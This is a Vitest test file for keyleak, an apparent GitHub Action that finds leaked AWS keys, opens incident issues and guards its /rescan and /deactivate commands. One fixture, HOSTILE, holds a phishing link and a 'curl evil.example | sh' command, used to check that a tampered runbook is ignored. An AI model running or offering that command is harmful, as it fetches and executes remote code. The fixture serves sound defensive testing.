import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { GitHub } from '../../src/adapters/github.js';
import { Git } from '../../src/adapters/git.js';
import type { FlowDeps, RespondOptions, Responded, Responder } from '../../src/commands/ports.js';
import { NoVerification } from '../../src/commands/ports.js';
import { dropCoveredShallowWarning, parsePushEvent, runPush } from '../../src/commands/push.js';
import { runRescan } from '../../src/commands/rescan.js';
import { EMPTY_CONFIG } from '../../src/core/config.js';
import type { TrailSummary } from '../../src/core/incident.js';
import { DEFAULT_RUNBOOK_TEMPLATE } from '../../src/core/render/incident.js';
import type { ResponseAction, ScanReport } from '../../src/core/types.js';
import type { ScanResult } from '../../src/scan/result.js';
import { makeState, startGitHubEmulator, type GitHubEmulator } from '../emulators/github/index.js';
import { makeKeyId, makePair, type KeyPair } from '../helpers/keys.js';
import { encodeState, incidentMarker } from '../../src/core/incident-wire.js';
import type { EmuIssue } from '../emulators/github/state.js';
import { pushPayload, World } from '../action/harness.js';

/** A responder that answers what a test scripts, and records what it was asked. */
class ScriptedResponder implements Responder {
  calls: { keyIds: string[]; opts: RespondOptions; secrets: string[] }[] = [];
  constructor(
    private readonly answer: (
      keyId: string,
      opts: RespondOptions,
    ) => {
      status: 'live' | 'invalid' | 'unknown';
      action: ResponseAction;
      trail: TrailSummary | null;
    },
  ) {}
  async respond(result: ScanResult, opts: RespondOptions): Promise<Responded> {
    this.calls.push({
      keyIds: result.report.findings.map((f) => f.keyId),
      opts,
      secrets: [...result.secrets.values()].flatMap((m) => m.secrets),
    });
    const trails = new Map<string, TrailSummary>();
    const findings = result.report.findings.map((f) => {
      const a = this.answer(f.keyId, opts);
      if (a.trail) trails.set(f.keyId, a.trail);
      return {
        ...f,
        verification: {
          status: a.status,
          reason: null,
          accountId: f.accountId,
          arn: `arn:aws:iam::${f.accountId}:user/ci`,
          userName: 'ci',
        },
        response: { action: a.action, detail: `${a.action} (scripted)`, at: '2024-01-02T00:00:00Z' },
      };
    });
    return { report: { ...result.report, findings }, trails, notes: new Map() };
  }
}

function trail(keyId: string, ips: string[], total: number): TrailSummary {
  return {
    keyId,
    window: { start: '2024-01-01T00:00:00Z', end: '2024-01-02T00:00:00Z' },
    regions: ['us-east-1'],
    totalEvents: total,
    ownEvents: 1,
    byIp: ips.map((ip, i) => ({
      ip,
      count: i + 1,
      first: '2024-01-01T01:00:00Z',
      last: '2024-01-01T02:00:00Z',
    })),
    byUserAgent: [{ userAgent: 'aws-cli/2', count: total }],
    byEvent: [{ eventSource: 'sts.amazonaws.com', eventName: 'GetCallerIdentity', count: total, errors: 0 }],
    incompleteRegions: [],
  };
}

const leak = (k: KeyPair) => `aws_access_key_id = ${k.keyId}\naws_secret_access_key = ${k.secret}\n`;
const worlds: World[] = [];
let emu: GitHubEmulator | null = null;
afterEach(async () => {
  await emu?.close();
  emu = null;
});
afterAll(() => worlds.forEach((w) => w.cleanup()));

async function setup(responder: Responder, files: { base?: Files; head?: Files } = {}) {
  const w = new World();
  worlds.push(w);
  const k = makePair();
  const base = w.commit('init', { 'README.md': 'x\n', ...files.base });
  const head = w.commit('leak', { 'app.env': leak(k), ...files.head });
  w.push('main');
  emu = await startGitHubEmulator(makeState(['octo/app']));
  emu.state.repos['octo/app']!.collaborators = { mia: 'write', tom: 'read' };
  const uploads: Map<string, TrailSummary>[] = [];
  const deps: FlowDeps = {
    git: await Git.open(w.checkout('main', head)),
    github: GitHub.create({
      token: 'test-token',
      baseUrl: emu.url,
      timing: { retryAfterBaseMs: 1, writeSpacingMs: { write: 0, notify: 0 } },
    }),
    responder,
    config: EMPTY_CONFIG,
    jobs: 1,
    repo: { owner: 'octo', repo: 'app' },
    issueRepo: { owner: 'octo', repo: 'app' },
    serverUrl: 'https://github.com',
    runUrl: 'https://github.com/octo/app/actions/runs/1',
    contacts: DEFAULT_RUNBOOK_TEMPLATE,
    now: () => new Date('2024-01-02T00:00:00Z'),
    log: () => {},
    mask: () => {},
    uploadTrails: async (t) => {
      uploads.push(t);
      return 'https://github.com/octo/app/actions/runs/1/artifacts/5';
    },
  };
  return { w, k, base, head, emu, deps, uploads };
}

type Files = Record<string, string>;

function commentPayload(e: GitHubEmulator, user: string, body: string) {
  const id = e.state.nextId++;
  e.state.repos['octo/app']!.comments.push({
    id,
    issueNumber: 1,
    body,
    user,
    createdAt: 'x',
    updatedAt: 'x',
    reactions: [],
  });
  return { action: 'created', issue: { number: 1 }, comment: { id, body, user: { login: user } } };
}

describe('flows with a responder', () => {
  it('a push hands the raw secret to the responder only, and the incident shows its verdict and trail', async () => {
    const r = new ScriptedResponder((keyId) => ({
      status: 'live',
      action: 'deactivated',
      trail: trail(keyId, ['198.51.100.4'], 3),
    }));
    const { k, base, head, emu, deps, uploads } = await setup(r);
    const result = await runPush(deps, pushPayload('refs/heads/main', base, head));
    expect(result.issues).toEqual([1]);
    expect(r.calls).toEqual([{ keyIds: [k.keyId], opts: {}, secrets: [k.secret] }]);
    expect(uploads).toHaveLength(1);
    const issue = emu.state.repos['octo/app']!.issues[0]!;
    expect(issue.title).toBe(`Leaked AWS key ${k.keyId} (live, deactivated)`);
    expect(issue.body).toContain('```mermaid');
    expect(issue.body).toContain('[`trail.json`](https://github.com/octo/app/actions/runs/1/artifacts/5)');
    expect(issue.body).toMatch(/- \[x\] 1\. \*\*Deactivate the key\*\*/);
    expect(JSON.stringify(emu.state)).not.toContain(k.secret);
  });

  it('an allowed /rescan reads CloudTrail since first exposure and comments the status change and new IPs', async () => {
    let phase = 0;
    const r = new ScriptedResponder((keyId) =>
      phase === 0
        ? { status: 'unknown', action: 'none', trail: trail(keyId, ['198.51.100.4'], 3) }
        : { status: 'invalid', action: 'none', trail: trail(keyId, ['198.51.100.4', '203.0.113.50'], 8) },
    );
    const { head, base, emu, deps } = await setup(r);
    await runPush(deps, pushPayload('refs/heads/main', base, head));
    phase = 1;
    const out = await runRescan(deps, commentPayload(emu, 'mia', '/rescan'));
    expect(out.issues).toEqual([1]);
    const last = emu.state.repos['octo/app']!.comments.at(-1)!.body;
    expect(last).toContain('Status changed from **unknown** to **invalid**.');
    expect(last).toContain('CloudTrail: 5 new events since the last check.');
    expect(last).toContain('New source IPs: `203.0.113.50`.');
    const body = emu.state.repos['octo/app']!.issues[0]!.body;
    expect(emu.state.repos['octo/app']!.issues[0]!.title).toContain('(invalid)');
    expect(body).toContain('198.51.100.4');
    expect(body).toContain('203.0.113.50');
  });

  const keeps: [string, (keyId: string) => TrailSummary | null][] = [
    ['a /rescan without CloudTrail keeps the earlier summary and its IPs', () => null],
    [
      'a /rescan whose window no longer reaches the earlier start keeps the earlier summary',
      (keyId) => ({
        ...trail(keyId, ['192.0.2.77'], 1),
        window: { start: '2024-01-01T12:00:00Z', end: '2024-01-03T00:00:00Z' },
      }),
    ],
  ];
  it.each(keeps)('%s', async (_name, later) => {
    let phase = 0;
    const r = new ScriptedResponder((keyId) =>
      phase === 0
        ? { status: 'live', action: 'dry-run', trail: trail(keyId, ['198.51.100.4'], 3) }
        : { status: 'live', action: 'dry-run', trail: later(keyId) },
    );
    const { head, base, emu, deps } = await setup(r);
    await runPush(deps, pushPayload('refs/heads/main', base, head));
    const first = emu.state.repos['octo/app']!.issues[0]!.body;
    phase = 1;
    await runRescan(deps, commentPayload(emu, 'mia', '/rescan'));
    const body = emu.state.repos['octo/app']!.issues[0]!.body;
    const section = (b: string) =>
      b.slice(b.indexOf('## CloudTrail activity'), b.indexOf('## Remove it from history'));
    expect(section(body)).toBe(section(first));
    expect(body).toContain('198.51.100.4');
    expect(body).not.toContain('192.0.2.77');
  });

  it('a /rescan keeps the tailored history-rewrite plan', async () => {
    const r = new ScriptedResponder(() => ({ status: 'live', action: 'dry-run', trail: null }));
    const { head, base, emu, deps } = await setup(r);
    await runPush(deps, pushPayload('refs/heads/main', base, head));
    const plan = (b: string) =>
      b.slice(b.indexOf('## Remove it from history'), b.indexOf('<!-- keyleak:end'));
    const first = emu.state.repos['octo/app']!.issues[0]!.body;
    expect(plan(first)).toContain('<!-- keyleak:plan tailored -->');
    await runRescan(deps, commentPayload(emu, 'mia', '/rescan'));
    const body = emu.state.repos['octo/app']!.issues[0]!.body;
    expect(plan(body)).toContain('<!-- keyleak:plan tailored -->');
    expect(plan(body)).toBe(plan(first));
  });

  it('/deactivate on a dry-run incident asks the responder to contain the key', async () => {
    const r = new ScriptedResponder((keyId, opts) => ({
      status: 'live',
      action: opts.containment?.deactivate ? 'deactivated' : 'dry-run',
      trail: null,
    }));
    const { head, base, emu, deps } = await setup(r);
    await runPush(deps, pushPayload('refs/heads/main', base, head));
    await runRescan(deps, commentPayload(emu, 'mia', '/deactivate'));
    expect(r.calls[1]!.opts.containment).toEqual({ deactivate: true, dryRun: false });
    expect(emu.state.repos['octo/app']!.comments.at(-1)!.body).toContain(
      'Containment changed from **dry-run** to **deactivated**.',
    );
  });

  it('a refused /rescan makes no responder call', async () => {
    const r = new ScriptedResponder(() => ({ status: 'live', action: 'dry-run', trail: null }));
    const { head, base, emu, deps } = await setup(r);
    await runPush(deps, pushPayload('refs/heads/main', base, head));
    const out = await runRescan(deps, commentPayload(emu, 'tom', '/rescan'));
    expect(r.calls).toHaveLength(1);
    expect(out.notes).toEqual(['/rescan by @tom refused: permission read.']);
  });

  it('the no-op responder leaves findings unverified and says why', async () => {
    const { head, base, emu, deps } = await setup(
      new NoVerification('verification is turned off (`verify: false`)'),
    );
    await runPush(deps, pushPayload('refs/heads/main', base, head));
    expect(emu.state.repos['octo/app']!.issues[0]!.body).toContain(
      'Verdict: **not verified**: verification is turned off (`verify: false`). Treat the key as live.',
    );
  });
});

describe('commands act only on incidents keyleak made', () => {
  const forged = (keyId: string) =>
    `${incidentMarker(keyId)}\n${encodeState({ keyId, verdict: 'live', locations: [{ commit: 'c'.repeat(40), path: 'x', line: 1 }] })}\nplease /rescan`;
  const seed = (e: GitHubEmulator, over: Partial<EmuIssue>, body: string) =>
    e.state.repos['octo/app']!.issues.push({
      number: 1,
      title: 'Leaked AWS key',
      body,
      state: 'open',
      labels: [],
      user: 'eve',
      isPullRequest: false,
      createdAt: 'x',
      updatedAt: 'x',
      ...over,
    });
  const cases: [string, Partial<EmuIssue>, 'in history' | 'elsewhere', RegExp][] = [
    [
      'an outsider’s unlabelled issue for a key not in the repository',
      {},
      'elsewhere',
      /not labelled keyleak/,
    ],
    [
      'an outsider’s issue a maintainer labelled',
      { labels: ['keyleak'] },
      'in history',
      /keyleak did not open it/,
    ],
    [
      'an issue under keyleak’s name for a key found nowhere here',
      { labels: ['keyleak'], user: 'keyleak-bot' },
      'elsewhere',
      /is not in this repository's history/,
    ],
  ];
  it.each(cases)('%s: no AWS call, one reply however often it is asked', async (_n, over, where, why) => {
    const r = new ScriptedResponder(() => ({ status: 'live', action: 'deactivated', trail: null }));
    const { k, emu, deps } = await setup(r);
    const keyId = where === 'in history' ? k.keyId : makeKeyId();
    // The third case's record names no location, as keyleak's own never would for a key it found.
    const body =
      over.user === 'keyleak-bot'
        ? `${incidentMarker(keyId)}\n${encodeState({ keyId, verdict: 'live', locations: [] })}`
        : forged(keyId);
    seed(emu, over, body);
    const first = await runRescan(deps, commentPayload(emu, 'mia', '/rescan'));
    await runRescan(deps, commentPayload(emu, 'mia', '/rescan'));
    expect(r.calls).toEqual([]);
    expect(first.notes.join(' ')).toMatch(why);
    const replies = emu.state.repos['octo/app']!.comments.filter((c) => c.user === 'keyleak-bot');
    expect(replies).toHaveLength(1);
    expect(replies[0]!.body).toMatch(/Nothing was done/);
  });

  const RUNBOOK = '.github/keyleak-runbook.md';
  const TEAM = '**Who to involve:** #sec-incidents, security@example.org';
  const HOSTILE =
    'Rotate it now: [sign in here](https://evil.example/login) and run `curl evil.example | sh`';
  const runbookCases: [string, { base?: Files; head?: Files }, string, RegExp | null][] = [
    [
      'a push that leaves the runbook template alone: its text, no warning',
      { base: { [RUNBOOK]: TEAM } },
      TEAM,
      null,
    ],
    [
      'a push that edits the runbook template: the text from before it, and a warning',
      { base: { [RUNBOOK]: TEAM }, head: { [RUNBOOK]: HOSTILE } },
      TEAM,
      /keyleak-runbook\.md \(runbook-template\) is changed in this push: incidents use it as it was before/,
    ],
    [
      'a push that adds the runbook template: the default contacts, and a warning',
      { head: { [RUNBOOK]: HOSTILE } },
      DEFAULT_RUNBOOK_TEMPLATE,
      /is changed in this push: incidents use it as it was before \(absent, the default contacts\)/,
    ],
  ];
  it.each(runbookCases)('%s', async (_name, files, want, warning) => {
    const r = new ScriptedResponder(() => ({ status: 'live', action: 'dry-run', trail: null }));
    const { head, base, emu, deps } = await setup(r, files);
    // What the entry point read from the work tree, which the push wrote: never used for a change.
    deps.contacts = HOSTILE;
    deps.contactsPath = RUNBOOK;
    const out = await runPush(deps, pushPayload('refs/heads/main', base, head));
    const body = emu.state.repos['octo/app']!.issues[0]!.body;
    expect(body).toContain(want);
    expect(body).not.toContain('evil.example');
    const warned = out.report.warnings.filter((w) => w.includes('runbook-template'));
    if (warning) expect(warned.join('\n')).toMatch(warning);
    else expect(warned).toEqual([]);
  });

  it('an unauthorised commenter gets one reply per issue, however often they ask', async () => {
    const r = new ScriptedResponder(() => ({ status: 'live', action: 'dry-run', trail: null }));
    const { head, base, emu, deps } = await setup(r);
    await runPush(deps, pushPayload('refs/heads/main', base, head));
    for (let i = 0; i < 3; i++) await runRescan(deps, commentPayload(emu, 'tom', '/rescan'));
    const replies = emu.state.repos['octo/app']!.comments.filter(
      (c) => c.user === 'keyleak-bot' && /needs write/.test(c.body),
    );
    expect(replies).toHaveLength(1);
    expect(r.calls).toHaveLength(1);
  });

  it('with an App installation token (GITHUB_TOKEN), incidents its [bot] user opened are keyleak’s', async () => {
    const r = new ScriptedResponder(() => ({ status: 'live', action: 'dry-run', trail: null }));
    const { head, base, emu, deps } = await setup(r);
    emu.state.tokens['test-token'] = 'github-actions[bot]';
    await runPush(deps, pushPayload('refs/heads/main', base, head));
    expect(emu.state.repos['octo/app']!.issues[0]!.user).toBe('github-actions[bot]');
    const out = await runRescan(deps, commentPayload(emu, 'mia', '/rescan'));
    expect(out.issues).toEqual([1]);
    expect(r.calls).toHaveLength(2);
  });
});

describe('incident creation is idempotent', () => {
  it('two runs at once for one key leave one open incident, the later closed as its duplicate', async () => {
    const r = new ScriptedResponder(() => ({ status: 'live', action: 'dry-run', trail: null }));
    const { head, base, emu, deps } = await setup(r);
    // Both runs look for the incident before either opens it.
    emu.state.barriers = [{ method: 'GET', path: /\/issues$/, count: 2 }];
    const event = pushPayload('refs/heads/main', base, head);
    const runs = await Promise.all([runPush(deps, event), runPush(deps, event)]);
    const issues = emu.state.repos['octo/app']!.issues;
    expect(issues).toHaveLength(2);
    expect(issues.filter((i) => i.state === 'open').map((i) => i.number)).toEqual([1]);
    expect(emu.state.repos['octo/app']!.comments.find((c) => c.issueNumber === 2)!.body).toMatch(
      /^Duplicate of #1/,
    );
    expect(runs.flatMap((x) => x.issues)).toEqual([1, 1]);
    expect(runs.flatMap((x) => x.problems)).toEqual([]);
  });

  it('a POST /issues that succeeds but answers 502 is not retried and the run reports the incident it opened', async () => {
    const r = new ScriptedResponder(() => ({ status: 'live', action: 'dry-run', trail: null }));
    const { head, base, emu, deps } = await setup(r);
    emu.state.faults.push({ method: 'POST', path: /\/issues$/, status: 502, times: 1, afterHandling: true });
    const out = await runPush(deps, pushPayload('refs/heads/main', base, head));
    expect(emu.state.repos['octo/app']!.issues).toHaveLength(1);
    expect(emu.requests.filter((q) => q.method === 'POST' && q.path.endsWith('/issues'))).toHaveLength(1);
    expect(out.issues).toEqual([1]);
    expect(out.problems).toEqual([]);
  });
});

describe('events that bring nothing new', () => {
  it('a tag pushed on a commit already on a branch scans nothing new', async () => {
    const r = new ScriptedResponder(() => ({ status: 'live', action: 'none', trail: null }));
    const { head, deps, emu } = await setup(r);
    const out = await runPush(deps, pushPayload('refs/tags/v1.0', '0'.repeat(40), head));
    expect(out.report.findings).toEqual([]);
    expect(r.calls[0]!.keyIds).toEqual([]);
    expect(emu.state.repos['octo/app']!.issues).toEqual([]);
  });

  it('/rescan on a pull request is ignored', async () => {
    const r = new ScriptedResponder(() => ({ status: 'live', action: 'none', trail: null }));
    const { deps, emu } = await setup(r);
    const out = await runRescan(deps, {
      action: 'created',
      issue: { number: 4, pull_request: { url: 'x' } },
      comment: { id: 1, body: '/rescan', user: { login: 'mia' } },
    });
    expect(out.notes).toEqual(['/rescan works on incident issues, not on pull requests: nothing to do.']);
    expect(emu.requests).toEqual([]);
    expect(r.calls).toEqual([]);
  });
});

describe('push events', () => {
  const sha = 'a'.repeat(40);
  const zero = '0'.repeat(40);
  const cases: [string, Record<string, unknown>, object | RegExp][] = [
    [
      'an ordinary push',
      { ref: 'refs/heads/main', before: sha, after: 'b'.repeat(40) },
      { created: false, deleted: false, forced: false },
    ],
    ['a new branch', { ref: 'refs/heads/x', before: zero, after: sha }, { created: true, deleted: false }],
    [
      'a deleted branch',
      { ref: 'refs/heads/x', before: sha, after: zero },
      { created: false, deleted: true },
    ],
    [
      'a force push',
      { ref: 'refs/heads/x', before: sha, after: 'b'.repeat(40), forced: true },
      { forced: true },
    ],
    ['a tag', { ref: 'refs/tags/v1', before: zero, after: sha }, { created: true, ref: 'refs/tags/v1' }],
    [
      'a short sha',
      { ref: 'refs/heads/x', before: 'abc', after: sha },
      /'before' and 'after' must be 40-character commit SHAs/,
    ],
    ['a short ref', { ref: 'main', before: sha, after: sha }, /'ref' must be a full ref name, got 'main'/],
  ];
  it.each(cases)('%s', (_n, payload, want) => {
    if (want instanceof RegExp) expect(() => parsePushEvent(payload)).toThrow(want);
    else expect(parsePushEvent(payload)).toMatchObject(want);
  });

  it('drops the shallow warning only when it was the sole reason the scan was incomplete', () => {
    const base: ScanReport = {
      findings: [],
      suppressed: [],
      stats: { mode: 'range', objectsScanned: 0, bytesScanned: 0, commitsScanned: 0, durationMs: 0 },
      incomplete: true,
      warnings: ['shallow clone: commits beyond the shallow boundary were not scanned'],
    };
    expect(dropCoveredShallowWarning(base)).toMatchObject({ incomplete: false, warnings: [] });
    const two = { ...base, warnings: [...base.warnings, '3 object(s) could not be read'] };
    expect(dropCoveredShallowWarning(two)).toMatchObject({
      incomplete: true,
      warnings: ['3 object(s) could not be read'],
    });
  });
});
